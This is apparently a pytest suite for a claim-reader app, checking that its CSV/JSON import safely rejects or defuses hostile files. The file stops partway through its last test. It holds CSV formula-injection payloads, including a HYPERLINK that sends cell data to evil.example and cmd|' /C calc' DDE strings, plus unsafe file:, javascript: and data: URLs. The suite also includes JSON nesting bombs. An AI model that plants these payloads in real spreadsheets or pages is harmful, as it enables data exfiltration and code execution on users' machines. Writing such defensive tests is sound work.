"""Hostile files through `claim-reader import` and Library.import_file.

Whatever arrives — formulas, huge cells, NUL bytes, the wrong encoding, the wrong columns,
JSON nested to the bottom of the stack, a million rows with one bad one near the end — the
outcome is one of exactly two: a clean import, or exit 1 with one `error: …` line (no
traceback) and the library byte-for-byte as it was (and still passing its integrity check).
"""

from __future__ import annotations

import codecs
import csv
import hashlib
import io
import json
import os
import re
import shutil
import sqlite3
import subprocess
import sys
import textwrap
import uuid
from pathlib import Path

import pytest

from reader.documents import DocumentError
from reader.exchange.csv_format import COLUMNS
from reader.library import Library
from reader.model import AnchorState, AnnotationKind, ClaimStatus, Source, Stance

ROOT = Path(__file__).resolve().parents[1]
CORPUS = Path(__file__).resolve().parents[2] / "shared" / "corpus"
SEED = CORPUS / "seed" / "000_d286d3589c386401.txt"

SUMMARY = re.compile(r"^added \d+, updated \d+, unchanged \d+\n$")
TEXT_COLUMNS = (
    "set", "document_title", "document_file", "location", "quote", "prefix", "suffix",
    "claimant", "note", "tags", "source_title", "source_authors", "source_publisher",
    "locator", "evidence_quote",
)  # fmt: skip
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "'=1+1",
    "-3",
)
SHA = hashlib.sha256(b"a document this library has never opened").hexdigest()


# -- the library and what "unchanged" means ------------------------------------------------------


@pytest.fixture(scope="module")
def base(tmp_path_factory) -> tuple[Path, bytes, bytes]:
    """A library with a few annotations, a citation and a set; and its CSV and JSON exports."""
    folder = tmp_path_factory.mktemp("base")
    path = folder / "library.sqlite"
    library = Library(path)
    try:
        seed = library.open_path(SEED)
        start, end = library.find_quote(seed, "79,770 in 2022")
        claim = library.highlight(
            seed, start, end, AnnotationKind.CLAIM, status=ClaimStatus.DISPUTED, note="high?"
        )
        source = library.add_source(Source(title="CDC data", url="https://www.cdc.gov/nchs/"))
        library.cite(claim.id, source.id, Stance.REFUTES, locator="p. 2")
        start, end = library.find_quote(seed, "Since 2017")
        other = library.highlight(seed, start, end, AnnotationKind.QUESTION, tags=("when",))
        library.add_to_set(library.ensure_set("Check").id, [claim.id, other.id])
        csv_out, json_out = io.StringIO(newline=""), io.StringIO()
        library.export(csv_out, "csv")
        library.export(json_out, "json")
    finally:
        library.close()
    assert not Path(f"{path}-wal").exists()  # closed cleanly: the file alone is the library
    return path, csv_out.getvalue().encode("utf-8"), json_out.getvalue().encode("utf-8")


@pytest.fixture
def db(base, tmp_path: Path) -> Path:
    """A fresh copy of the base library for one test."""
    target = tmp_path / "lib" / "library.sqlite"
    target.parent.mkdir()
    shutil.copyfile(base[0], target)
    return target


def state(db: Path) -> tuple[list[str], list[tuple[str, int]]]:
    """Everything in the library (SQL text of every row) and the row count of every table."""
    conn = sqlite3.connect(db)
    try:
        assert conn.execute("PRAGMA integrity_check").fetchall() == [("ok",)]
        tables = [
            r[0]
            for r in conn.execute(
                "SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name"
            )
        ]
        counts = [(t, conn.execute(f'SELECT COUNT(*) FROM "{t}"').fetchone()[0]) for t in tables]
        return list(conn.iterdump()), counts
    finally:
        conn.close()


def run_cli(db: Path, *args: str, timeout: float = 120) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, str(ROOT / "main.py"), "--db", str(db), *args],
        capture_output=True,
        text=True,
        timeout=timeout,
        cwd=ROOT,
    )


def check_outcome(
    db: Path, data: bytes, tmp_path: Path, name: str = "in", *, cli: bool = True
) -> str | None:
    """Import `data` through the CLI, then into a second copy through Library.import_file.

    Returns None for a clean import, else the error sentence (without `error: `); asserts the
    two ways agree, that a failure is one line and changes nothing, and that a success leaves
    a sound library. Without `cli` only the in-process import runs (into `db` itself).
    """
    path = tmp_path / f"{name}.dat"
    path.write_bytes(data)
    before = state(db)
    if not cli:
        library = Library(db)
        try:
            library.import_file(path)
            return None
        except DocumentError as exc:
            assert "\n" not in str(exc)
            return str(exc)
        finally:
            library.close()
    # A second copy of the library as it is now, for the same import done in-process.
    again = tmp_path / f"{name}-lib" / "library.sqlite"
    again.parent.mkdir()
    assert not Path(f"{db}-wal").exists()
    shutil.copyfile(db, again)
    result = run_cli(db, "import", str(path))
    assert "Traceback" not in result.stderr, result.stderr[-3000:]
    if result.returncode == 0:
        assert SUMMARY.match(result.stdout), result.stdout
        assert result.stderr == ""
        state(db)  # integrity_check
        cli_error = None
    else:
        assert result.returncode == 1, result.stderr[-3000:]
        lines = result.stderr.splitlines()
        assert len(lines) == 1 and lines[0].startswith("error: "), result.stderr[-3000:]
        assert len(lines[0]) < 400, lines[0]
        assert result.stdout == ""
        assert state(db) == before, "a failed import changed the library"
        cli_error = lines[0].removeprefix("error: ")
    # The same file into the same starting library, in this process (as the GUI does it).
    again_before = state(again)
    library = Library(again)
    try:
        library.import_file(path)
        in_process_error = None
    except DocumentError as exc:  # ImportFailed and friends: a sentence for the user
        in_process_error = str(exc)
    finally:
        library.close()
    assert in_process_error == cli_error
    if in_process_error is not None:
        assert state(again) == again_before
    return cli_error


# -- building files ------------------------------------------------------------------------------


def table(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def serialize(rows: list[list[str]], terminator: str = "\r\n") -> bytes:
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator=terminator).writerows(rows)
    return out.getvalue().encode("utf-8")


def new_row(**cells: str) -> list[str]:
    """A valid data row for a new annotation on a document the library has never seen."""
    row = dict.fromkeys(COLUMNS, "")
    row.update(
        annotation_id=str(uuid.uuid4()), document_title="Doc", document_file="doc.txt",
        document_sha256=SHA, start="10", end="20", quote="ten chars!", kind="claim",
        created_at="2026-01-01T00:00:00Z", updated_at="2026-01-01T00:00:00Z",
    )  # fmt: skip
    row.update(cells)
    return [row[c] for c in COLUMNS]


CITED = {
    "citation_id": "8f0c6d52-3f7a-4c55-9a4e-0d6f4f3b2a11",
    "stance": "supports",
    "source_title": "A source",
}


def csv_of(*rows: list[str], terminator: str = "\r\n") -> bytes:
    return serialize([list(COLUMNS), *rows], terminator)


def first_item(json_data: bytes) -> dict:
    return json.loads(json_data)["first"]["items"][0]


def line_starting(data: bytes, needle: str) -> int:
    return data.count(b"\n", 0, data.index(needle.encode())) + 1


# -- formulas ------------------------------------------------------------------------------------


@pytest.mark.parametrize("column", COLUMNS)
def test_a_formula_in_any_column_is_a_clean_outcome(column, db, tmp_path):
    formula = FORMULAS[COLUMNS.index(column) % len(FORMULAS)]
    cited = CITED if COLUMNS.index(column) >= COLUMNS.index("citation_id") else {}
    before = state(db)
    data = csv_of(new_row(), new_row(**{**cited, column: formula}))
    error = check_outcome(db, data, tmp_path, cli=False)
    if column in TEXT_COLUMNS:
        assert error is None, error
    if error is not None:
        assert error.startswith("line 3: "), error
        assert state(db) == before


def test_a_formula_in_a_typed_column_through_the_cli(db, tmp_path):
    error = check_outcome(db, csv_of(new_row(), new_row(kind="=1+1")), tmp_path)
    assert error is not None and error.startswith("line 3: kind"), error


def test_formulas_in_every_text_cell_import_and_export_defused(db, tmp_path):
    rows = []
    for n, formula in enumerate(FORMULAS):
        cells = {c: formula for c in TEXT_COLUMNS}
        cells["set"] = f"set {n} {formula}"
        rows.append(new_row(**{**cells, **CITED, "citation_id": str(uuid.uuid4())}))
    assert check_outcome(db, csv_of(*rows), tmp_path) is None
    library = Library(db)
    try:
        notes = {a.note for a in library.all_annotations()}
    finally:
        library.close()
    # Export's own quote is taken off on import ('=1+1 → =1+1), and nothing else is.
    expected = {f[1:] if f.startswith("'") and f[1:2] in "=+-@\t\r" else f for f in FORMULAS}
    assert expected <= notes
    out = run_cli(db, "export", "--all", "--format", "csv")
    assert out.returncode == 0, out.stderr
    for row in table(out.stdout.encode("utf-8"))[1:]:
        for cell in row:
            risky = cell[:1] in ("=", "+", "-", "@", "\t", "\r")
            assert not risky or re.fullmatch(r"-?\d+(\.\d+)?", cell), (cell, row)


# -- sizes ---------------------------------------------------------------------------------------


def test_a_ten_megabyte_field(db, tmp_path):
    huge = "x" * (10 * 1024 * 1024)
    error = check_outcome(db, csv_of(new_row(note=huge)), tmp_path, "csv")
    if error is None:
        library = Library(db)
        try:
            assert max(len(a.note) for a in library.all_annotations()) == len(huge)
        finally:
            library.close()
    else:
        assert error.startswith("line 2: "), error


def test_a_ten_megabyte_json_string(base, db, tmp_path):
    item = first_item(base[2])
    item["id"] = f"urn:uuid:{uuid.uuid4()}"
    item["body"] = {"type": "TextualBody", "value": "y" * (10 * 1024 * 1024)}
    check_outcome(db, json.dumps({"items": [item]}).encode(), tmp_path)


# -- bytes that are not what they claim ------------------------------------------------------


def test_nul_bytes(base, db, tmp_path):
    data = csv_of(new_row(), new_row(note="before\x00after"))
    assert check_outcome(db, data, tmp_path, "csv").startswith("line 3: ")
    raw_json = base[2].replace(b'"Annotation"', b'"Anno\x00tation"', 1)
    assert check_outcome(db, raw_json, tmp_path, "json") is not None
    escaped = base[2].replace(b'"high?"', b'"high\\u0000?"', 1)
    assert escaped != base[2]
    check_outcome(db, escaped, tmp_path, "escaped")  # valid JSON: either way, cleanly


@pytest.mark.parametrize(
    "encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "latin-1", "cp1252"]
)
def test_files_not_in_utf8_are_refused_saying_so(encoding, db, tmp_path):
    text = csv_of(new_row(), new_row(note="café, naïve")).decode("utf-8")
    error = check_outcome(db, text.encode(encoding), tmp_path)
    assert error is not None and "UTF-8" in error, error
    if encoding in ("latin-1", "cp1252"):
        assert error.startswith("line 3: "), error


@pytest.mark.parametrize("encoding", ["utf-16", "latin-1"])
def test_json_not_in_utf8_is_refused_saying_so(encoding, base, db, tmp_path):
    text = base[2].decode("utf-8").replace("high?", "café")
    error = check_outcome(db, text.encode(encoding), tmp_path)
    assert error is not None and "UTF-8" in error, error


def test_a_byte_order_mark_is_fine(base, db, tmp_path):
    assert check_outcome(db, codecs.BOM_UTF8 + csv_of(new_row()), tmp_path, "csv") is None
    assert check_outcome(db, codecs.BOM_UTF8 + base[2], tmp_path, "json") is None


def test_binary_junk(db, tmp_path):
    junk = bytes(range(256)) * 64 + os.urandom(0)  # deterministic: every byte value
    assert check_outcome(db, junk, tmp_path, "junk") is not None
    assert check_outcome(db, b"\x89PNG\r\n\x1a\n" + junk, tmp_path, "png") is not None
    assert check_outcome(db, b"", tmp_path, "empty").startswith("line 1: ")


# -- columns -------------------------------------------------------------------------------------


def test_wrong_missing_and_extra_columns(db, tmp_path):
    renamed = [c if c != "quote" else "Quote text" for c in COLUMNS]
    assert check_outcome(db, serialize([renamed, new_row()]), tmp_path, "renamed").startswith(
        "line 1: "
    )
    # (COLUMNS[:-2] is the header before source_isbn and number_check: an older export, read.)
    missing = [list(COLUMNS[:-3]), new_row()[:-3]]
    assert check_outcome(db, serialize(missing), tmp_path, "missing").startswith("line 1: ")
    shuffled = [list(reversed(COLUMNS)), list(reversed(new_row()))]
    assert check_outcome(db, serialize(shuffled), tmp_path, "shuffled").startswith("line 1: ")
    extra = [[*COLUMNS, "mine"], [*new_row(), "x"]]
    check_outcome(db, serialize(extra), tmp_path, "extra")  # a clean outcome either way
    short = csv_of(new_row(), new_row()[:20], new_row())
    assert check_outcome(db, short, tmp_path, "short").startswith("line 3: ")
    long = csv_of(new_row(), new_row(), [*new_row(), "surplus"])
    assert check_outcome(db, long, tmp_path, "long").startswith("line 4: ")
    header_only = serialize([list(COLUMNS)])
    assert check_outcome(db, header_only, tmp_path, "header") is None


def test_a_row_of_the_wrong_kind_of_thing(db, tmp_path):
    """Not a CSV export at all, but looks like CSV."""
    other = b"name,age\r\nalice,30\r\nbob,40\r\n"
    assert check_outcome(db, other, tmp_path, "other").startswith("line 1: ")
    quotes = csv_of(new_row()) + b'"unterminated,quote\r\n' + b"x," * 40 + b"\r\n"
    assert check_outcome(db, quotes, tmp_path, "quotes").startswith("line 3: ")


# -- line endings --------------------------------------------------------------------------------


def test_crlf_and_lf_mixed_and_newlines_inside_cells(db, tmp_path):
    rows = [
        new_row(note="one\ntwo"),
        new_row(note="three\r\nfour"),
        new_row(note="five"),
    ]
    data = (
        csv_of(rows[0], terminator="\n") + serialize([rows[1]], "\r\n") + serialize([rows[2]], "\n")
    )
    assert b"\r\n" in data and b"e\n" in data
    assert check_outcome(db, data, tmp_path, "mixed") is None
    library = Library(db)
    try:
        notes = {a.note for a in library.all_annotations()}
    finally:
        library.close()
    assert {"one\ntwo", "three\r\nfour", "five"} <= notes
    bad = new_row(kind="nonsense")
    broken = data + serialize([bad], "\n")
    line = line_starting(broken, bad[1])
    assert line == 7  # header, 2 + 2 lines of cells with a newline, 1 more, then this one
    assert check_outcome(db, broken, tmp_path, "broken").startswith(f"line {line}: ")


def test_old_mac_line_endings(db, tmp_path):
    check_outcome(db, csv_of(new_row(), new_row(), terminator="\r"), tmp_path)


# -- JSON shapes ---------------------------------------------------------------------------------


@pytest.mark.parametrize("depth", [200, 5_000, 200_000])
def test_json_nested_deeply(depth, base, db, tmp_path):
    bomb = b"[" * depth + b"]" * depth
    assert check_outcome(db, bomb, tmp_path, "list") is not None
    in_items = b'{"items": ' + b"[" * depth + b"]" * depth + b"}"
    assert check_outcome(db, in_items, tmp_path, "items") is not None
    item = json.dumps(first_item(base[2])).encode()
    inside = item[:-1] + b', "x": ' + b'{"a":' * depth + b"1" + b"}" * depth + b"}"
    check_outcome(db, b'{"items": [' + inside + b"]}", tmp_path, "inside")


def test_json_with_200k_items_of_garbage(base, db, tmp_path):
    for name, items in {
        "numbers": list(range(200_000)),
        "objects": [{"type": "Annotation", "id": i} for i in range(200_000)],
        "strings": ["garbage"] * 200_000,
    }.items():
        error = check_outcome(db, json.dumps({"items": items}).encode(), tmp_path, name)
        assert error is not None and error.startswith("item 1: "), error
    # 199,999 good copies would be an import; one good item, then garbage, fails at item 2.
    good = first_item(base[2])
    tail = json.dumps({"items": [good] + [[0]] * 200_000}).encode()
    assert check_outcome(db, tail, tmp_path, "tail").startswith("item 2: ")


@pytest.mark.parametrize(
    "text",
    ["null", "42", '"a string"', "true", "{}", '{"items": 3}', "[", '{"items": [', "[1,]"],
)
def test_json_that_is_not_a_collection(text, db, tmp_path):
    assert check_outcome(db, text.encode(), tmp_path) is not None


# -- a million rows ------------------------------------------------------------------------------

HUGE_ROWS = int(os.environ.get("CLAIM_READER_TEST_HUGE_ROWS", "50000"))

RSS_HELPER = textwrap.dedent(
    """
    import json, resource, subprocess, sys
    done = subprocess.run(sys.argv[1:], capture_output=True, text=True)
    peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss  # KiB on Linux
    print(json.dumps({"rc": done.returncode, "out": done.stdout, "err": done.stderr,
                      "peak_mb": peak / 1024}))
    """
)


def import_measured(db: Path, path: Path, tmp_path: Path) -> dict:
    """`claim-reader --db DB import PATH` in a child process: its exit status, output and
    peak memory (MB), as RSS_HELPER reports them."""
    helper = tmp_path / "rss.py"
    helper.write_text(RSS_HELPER, encoding="utf-8")
    done = subprocess.run(
        [sys.executable, str(helper), sys.executable, str(ROOT / "main.py"), "--db", str(db)]
        + ["import", str(path)],
        capture_output=True,
        text=True,
        timeout=900,
        cwd=ROOT,
    )
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


def write_rows(path: Path, rows: int, bad_at: int) -> None:
    """A CSV of `rows` valid annotations, except row `bad_at` (0-based) whose start is "x"."""
    citation_cells = len(COLUMNS) - COLUMNS.index("citation_id")  # all empty
    tail = ",claim,,,,,,,2026-01-01T00:00:00Z,2026-01-01T00:00:00Z" + "," * citation_cells + "\r\n"
    with path.open("w", encoding="utf-8", newline="") as out:
        out.write(",".join(COLUMNS) + "\r\n")
        for i in range(rows):
            start = "x" if i == bad_at else str(i)
            out.write(
                f",{i:08x}-0000-4000-8000-000000000000,Doc,doc.txt,{SHA},,,{start},{i + 5},"
                f"quote {i},,{tail}"
            )


@pytest.mark.skipif(sys.platform != "linux", reason="ru_maxrss is in KiB on Linux")
def test_many_rows_with_one_bad_row_near_the_end(db, tmp_path):
    """Every row is imported (streamed, in one transaction) until the bad one; then all of it
    is rolled back, the error names the line, and memory stayed bounded all the while.

    CLAIM_READER_TEST_HUGE_ROWS=1000000 runs the full million (measured: 213 MB file, error on
    line 999,992, nothing imported, peak RSS 263 MB, about 5-8 minutes on 2 cores: the import
    costs ~200 µs a row); the default of 50,000 keeps this file inside its time budget.
    """
    path = tmp_path / "many.csv"
    bad_at = HUGE_ROWS - 7
    write_rows(path, HUGE_ROWS, bad_at)
    before = state(db)
    report = import_measured(db, path, tmp_path)
    assert report["rc"] == 1, report["err"][-3000:]
    lines = report["err"].splitlines()
    assert len(lines) == 1, report["err"][-3000:]
    assert lines[0].startswith(f'error: line {bad_at + 2}: start "x" '), lines[0]
    assert report["out"] == ""
    assert report["peak_mb"] < 400, report["peak_mb"]
    assert state(db) == before


def test_an_annotation_coming_back_far_later_is_refused(db, tmp_path):
    """Rows of one annotation split by 1,200 others (batches of 500 in between): refused with
    the line where it comes back, nothing imported — checked against what the import stored,
    not a map of every id read, so memory does not grow with the file."""
    path = tmp_path / "many.csv"
    write_rows(path, 1200, bad_at=10**9)
    data = path.read_bytes()
    first = data.split(b"\r\n")[1]
    data += first + b"\r\n"
    error = check_outcome(db, data, tmp_path, "back")
    assert error is not None and error.startswith("line 1202: annotation 00000000-"), error
    assert "next to each other" in error


@pytest.mark.skipif(sys.platform != "linux", reason="ru_maxrss is in KiB on Linux")
def test_memory_does_not_grow_with_the_rows(tmp_path):
    """Peak memory of `claim-reader import` for 150,000 and for 450,000 rows: the same within
    15 MB (a structure kept per row, e.g. a map of every id read, adds ~45 MB here). Below
    ~100,000 rows the import's 32 MB page cache is still filling; measured with 1,000,000
    rows: peak 70 MB, against 63 MB for 100,000."""
    peaks = []
    for rows in (150_000, 450_000):
        path = tmp_path / f"rows-{rows}.csv"
        write_rows(path, rows, bad_at=10**9)
        db = tmp_path / f"lib-{rows}" / "library.sqlite"
        report = import_measured(db, path, tmp_path)
        assert report["rc"] == 0 and report["out"].startswith(f"added {rows},"), report["err"]
        peaks.append(report["peak_mb"])
    assert peaks[1] - peaks[0] < 15, peaks


def test_a_json_file_too_big_to_read_whole_is_refused(db, tmp_path):
    """JSON is parsed whole: past 256 MB one sentence says so (and points to CSV) before
    anything is read. The file is sparse: 300 MB long, a few bytes on disk."""
    path = tmp_path / "huge.json"
    with path.open("wb") as out:
        out.write(b"[")
        out.seek(300 * 2**20)
        out.write(b"]")
    before = state(db)
    result = run_cli(db, "import", str(path))
    assert result.returncode == 1 and result.stdout == ""
    assert result.stderr.strip() == (
        "error: line 1: the JSON file is 300 MB; a JSON import is read whole, so files over "
        "256 MB are refused: import a CSV export instead (it is read a block at a time)."
    ), result.stderr
    assert state(db) == before


# -- imports cannot move, read or misplace (issue 10, point 3) -----------------------------------


def claim_row(data: bytes) -> list[str]:
    """The CSV row of the base library's claim (the one with a citation)."""
    return next(r for r in table(data)[1:] if r[COLUMNS.index("citation_id")])


def test_a_citation_id_owned_by_another_annotation_is_refused_by_line(base, db, tmp_path):
    owned = claim_row(base[1])[COLUMNS.index("citation_id")]
    data = csv_of(new_row(), new_row(**{**CITED, "citation_id": owned, "stance": "supports"}))
    before = state(db)
    error = check_outcome(db, data, tmp_path, "csv")
    assert error is not None and error.startswith("line 3: "), error
    assert owned in error and "another annotation" in error
    assert state(db) == before
    # The same in one file: two new annotations claiming one new citation id.
    fresh = str(uuid.uuid4())
    data = csv_of(
        new_row(**{**CITED, "citation_id": fresh}), new_row(**{**CITED, "citation_id": fresh})
    )
    error = check_outcome(db, data, tmp_path, "twice")
    assert error is not None and error.startswith("line 3: ") and fresh in error, error


def test_json_citation_id_owned_by_another_annotation_is_refused(base, db, tmp_path):
    collection = json.loads(base[2])
    cited = next(i for i in collection["first"]["items"] if "citations" in json.dumps(i))
    item = json.loads(json.dumps(cited))
    item["id"] = f"urn:uuid:{uuid.uuid4()}"
    error = check_outcome(db, json.dumps({"items": [item]}).encode(), tmp_path, "json")
    assert error is not None and error.startswith("item 1: ") and "another annotation" in error


AUDIT_OPENS = textwrap.dedent(
    """
    import sys
    from pathlib import Path
    watched = Path(sys.argv[3]).resolve()
    opened = []

    def hook(event, args):
        if event in ("open", "os.open") and args and isinstance(args[0], (str, bytes, Path)):
            try:
                name = args[0].decode() if isinstance(args[0], bytes) else args[0]
                if Path(name).resolve() == watched:
                    opened.append(event)
            except (OSError, ValueError):
                pass

    sys.addaudithook(hook)
    from reader.library import Library
    library = Library(sys.argv[1])
    library.import_file(sys.argv[2])
    library.export(sys.argv[4], "csv")
    library.export(sys.argv[4] + ".json", "json")
    library.export(sys.argv[4] + ".md", "md")
    library.close()
    print(len(opened))
    """
)


def test_document_file_is_never_opened_hashed_or_read(db, tmp_path):
    # A file whose bytes are the very document the row names: still only a hint, never read.
    target = tmp_path / "elsewhere" / "secret.txt"
    target.parent.mkdir()
    target.write_text("Paragraph one.\n\nParagraph two names ten chars! here.\n", "utf-8")
    sha = hashlib.sha256(target.read_bytes()).hexdigest()
    data = csv_of(new_row(document_sha256=sha, document_file=str(target)))
    (tmp_path / "in.csv").write_bytes(data)
    result = subprocess.run(
        [sys.executable, "-c", AUDIT_OPENS, str(db), str(tmp_path / "in.csv"), str(target),
         str(tmp_path / "out.csv")],
        capture_output=True, text=True, timeout=120, cwd=ROOT,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr[-3000:]
    assert result.stdout.strip() == "0", "the import or an export opened document_file"
    (row,) = [r for r in table((tmp_path / "out.csv").read_bytes())[1:] if r[4] == sha]
    assert row[COLUMNS.index("document_file")] == str(target)  # kept, shown as a hint


def test_an_imported_anchor_not_at_its_offsets_is_reanchored_or_orphaned(base, db, tmp_path):
    library = Library(db)
    try:
        seed = library.open_path(SEED)
        text = seed.document.text
        sha = seed.document.sha256
    finally:
        library.close()
    where = text.index("Since 2017")
    rows = [
        # The quote is in the document, but elsewhere than its offsets say: moved to it.
        new_row(document_sha256=sha, quote="Since 2017", start="3", end="13"),
        # Offsets no text has: the quote found again.
        new_row(document_sha256=sha, quote="Since 2017", start=str(2**63 - 11), end=str(2**63 - 1)),
        # A quote the document does not contain: orphan, never "exact".
        new_row(document_sha256=sha, quote="words nowhere in it", start="0", end="19"),
    ]
    assert check_outcome(db, csv_of(*rows), tmp_path, "csv", cli=False) is None
    library = Library(db)
    try:
        ids = [r[COLUMNS.index("annotation_id")] for r in rows]
        found = [library.annotation(i).anchor for i in ids]
        assert [(a.state, a.start) for a in found[:2]] == [(AnchorState.EXACT, where)] * 2
        assert found[2].state == AnchorState.ORPHAN
        # Opened again, nothing changes: they are where their words are, or orphans.
        seed = library.open_path(SEED)
        again = {a.id: a.anchor for a in library.annotations(seed)}
        assert [again[i] for i in ids] == found
    finally:
        library.close()


def test_an_anchor_imported_before_its_document_is_checked_when_it_is_opened(db, tmp_path):
    # The library has never seen the document: the anchor is kept as it came until the bytes
    # are at hand; opening the document then finds the quote, or orphans it.
    fresh = tmp_path / "library.sqlite"
    seed_text = SEED.read_text(encoding="utf-8")
    story = tmp_path / "story.txt"
    story.write_text(seed_text, encoding="utf-8")
    sha = hashlib.sha256(story.read_bytes()).hexdigest()
    same = {"document_sha256": sha, "document_file": str(story)}
    rows = [
        new_row(**same, quote="Since 2017", start="0", end="10"),
        new_row(**same, quote="not in it", start="0", end="9"),
    ]
    (tmp_path / "in.csv").write_bytes(csv_of(*rows))
    library = Library(fresh)
    try:
        library.import_file(tmp_path / "in.csv")
        opened = library.open_path(story)
        text = opened.document.text
        found = {a.id: a.anchor for a in library.annotations(opened)}
        moved, orphan = (found[r[COLUMNS.index("annotation_id")]] for r in rows)
        assert moved.state == AnchorState.EXACT and text[moved.start : moved.end] == "Since 2017"
        assert orphan.state == AnchorState.ORPHAN
    finally:
        library.close()


UNSAFE_URLS = (
    "file:///etc/passwd",
    "javascript:alert(1)",
    "smb://server/share",
    "JaVaScRiPt:alert(1)",
    " file:///etc/shadow",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox",
    "\\\\server\\share",
)


@pytest.mark.parametrize("url", UNSAFE_URLS)
def test_only_web_mail_and_doi_links_are_openable(url, db, tmp_path):
    from reader.citations import openable_url

    assert openable_url(url) is None
    data = csv_of(new_row(**{**CITED, "source_url": url}))
    assert check_outcome(db, data, tmp_path, "csv", cli=False) is None
    library = Library(db)
    try:
        kept = [s for s, _ in library.sources() if url.strip() in s.note]
        assert kept, "the address is kept, as text"
        assert all(s.url == "" for s in kept)
    finally:
        library.close()


@pytest.mark.parametrize(
    "url",
    [
        "https://example.org/a?b=c",
        "http://example.org",
        "mailto:desk@example.org",
        "doi:10.1000/182",
    ],
)
def test_web_mail_and_doi_links_stay_openable(url):
    from reader.citations import openable_url

    assert openable_url(url) is not None
    assert openable_url(url).startswith(("https://", "http://", "mailto:"))


@pytest.mark.parametrize("url", ["file:///etc/passwd", "javascript:alert(1)", "smb://host/x"])
def test_cite_with_an_unsafe_url_keeps_it_as_text(url, tmp_path):
    db = tmp_path / "library.sqlite"
    bibtex = f"@misc{{x, title = {{A page}}, url = {{{url}}}}}"
    csl = json.dumps({"type": "webpage", "title": "A page", "URL": url})
    for ref in (bibtex, csl):
        result = run_cli(db, "annotate", str(SEED), "--quote", "Since 2017", "--cite", ref)
        assert result.returncode == 0, result.stderr
    library = Library(db)
    try:
        from reader.citations import openable_url

        sources = [s for s, _ in library.sources()]
        assert sources and all(openable_url(s.url) is None for s in sources)
    finally:
        library.close()


@pytest.mark.parametrize("cell", [" =1+1", "\u00a0=1+1", "  +SUM(A1)", "\n-2+3", " @SUM(1)"])
def test_whitespace_before_a_formula_is_protected_and_round_trips(cell, db, tmp_path):
    data = csv_of(new_row(note=cell, claimant=cell))
    assert check_outcome(db, data, tmp_path, "csv", cli=False) is None
    library = Library(db)
    try:
        out = io.StringIO(newline="")
        library.export(out, "csv")
    finally:
        library.close()
    exported = out.getvalue().encode("utf-8")
    (row,) = [r for r in table(exported)[1:] if r[COLUMNS.index("note")].endswith(cell)]
    assert row[COLUMNS.index("note")] == "'" + cell
    assert row[COLUMNS.index("claimant")] == "'" + cell
    # export → import → export is byte-identical
    again = tmp_path / "again" / "library.sqlite"
    again.parent.mkdir()
    (tmp_path / "exported.csv").write_bytes(exported)
    library = Library(again)
    try:
        library.import_file(tmp_path / "exported.csv")
        library.open_path(SEED)  # the article at hand, for its "¶ N"
        second = io.StringIO(newline="")
        library.export(second, "csv")
    finally:
        library.close()
    assert second.getvalue().encode("utf-8") == exported


def test_a_field_longer_than_the_csv_default_limit_round_trips(db, tmp_path):
    note = "n" * 300_000  # csv's default limit is 131,072 characters
    assert check_outcome(db, csv_of(new_row(note=note)), tmp_path, "csv", cli=False) is None
    library = Library(db)
    try:
        assert note in [a.note for a in library.all_annotations()]
    finally:
        library.close()


@pytest.mark.parametrize(
    ("column", "value"),
    [("start", str(2**63)), ("end", str(2**63 + 5)), ("page", str(2**63)), ("start", "9" * 5000)],
)
def test_numbers_out_of_range_in_csv_are_one_error_line(column, value, db, tmp_path):
    cells = {column: value}
    if column == "start":
        cells["end"] = value
    error = check_outcome(db, csv_of(new_row(**cells)), tmp_path, "csv")
    assert error is not None and error.startswith("line 2: ") and column in error, error


@pytest.mark.parametrize(
    "change",
    [
        lambda item: item["target"]["selector"][1].update(start=2**63, end=2**63 + 1),
        lambda item: item["target"]["selector"][1].update(end=2**70),
        lambda item: item.update(id="urn:uuid:" + "\ud800"),
        lambda item: item["body"].__setitem__(0, {"type": "TextualBody", "value": "a\udc00b"}),
    ],
    ids=["start-2^63", "end-2^70", "surrogate-id", "surrogate-note"],
)
def test_numbers_out_of_range_and_lone_surrogates_in_json_are_one_error_line(
    change, base, db, tmp_path
):
    item = first_item(base[2])
    item["id"] = f"urn:uuid:{uuid.uuid4()}"
    if not isinstance(item.get("body"), list):
        item["body"] = [item.get("body") or {"type": "TextualBody", "value": ""}]
    selectors = item["target"]["selector"]
    selectors.sort(key=lambda s: s["type"] != "TextQuoteSelector")
    change(item)
    data = json.dumps({"items": [item]}).encode()  # ensure_ascii: \\ud800 escapes, as sent
    error = check_outcome(db, data, tmp_path, "json")
    assert error is not None and error.startswith("item 1: "), error


def test_a_5000_digit_integer_in_json_is_one_error_line(base, db, tmp_path):
    data = base[2].replace(b'"start": ', b'"start": ' + b"9" * 5000 + b', "x": ', 1)
    error = check_outcome(db, data, tmp_path, "json")
    assert error is not None and "digits" in error, error


def png_bytes() -> bytes:
    return bytes.fromhex("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489")


@pytest.mark.parametrize(
    ("name", "make", "named"),
    [
        ("notes.sqlite", "sqlite", "a SQLite database"),
        ("report.pdf", "pdf", "a PDF document"),
        ("photo.png", "png", "a PNG image"),
        ("photo.jpg", "jpeg", "a JPEG image"),
        ("archive.zip", "zip", "a ZIP archive"),
    ],
)
def test_a_file_import_cannot_take_is_named_for_what_it_is(name, make, named, db, tmp_path):
    path = tmp_path / name
    if make == "sqlite":
        conn = sqlite3.connect(path)
        conn.execute("CREATE TABLE notes (id INTEGER PRIMARY KEY, body TEXT)")
        conn.commit()
        conn.close()
    elif make == "pdf":
        shutil.copyfile(next(CORPUS.glob("**/*.pdf")), path)
    elif make == "png":
        path.write_bytes(png_bytes() + b"\x00" * 64)
    elif make == "jpeg":
        path.write_bytes(b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 64)
    else:
        import zipfile

        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr("a.txt", "hello")
